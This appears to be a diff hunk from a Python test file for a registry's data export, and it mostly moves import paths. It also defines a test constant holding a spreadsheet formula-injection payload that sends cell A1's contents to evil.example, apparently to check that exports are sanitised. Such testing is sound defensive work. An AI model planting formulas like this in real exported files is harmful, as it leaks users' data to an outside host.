@@ -18,8 +18,8 @@ from geo.coords import wgs84_to_bd09, wgs84_to_gcj02
 from registry.errors import RegistryError
 from registry.models import Capability, Change, ChangeSet
 from registry.schemas.interchange import CAPABILITY_COLUMNS, FACILITY_COLUMNS
-from registry.services.exporting import export_dataset
-from registry.services.records import load_facilities
+from registry.services.records.canonical import load_facilities
+from registry.services.records.exporting import export_dataset
 from tests.factories import capability, facility, point_in, run, write_csv, write_dataset
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
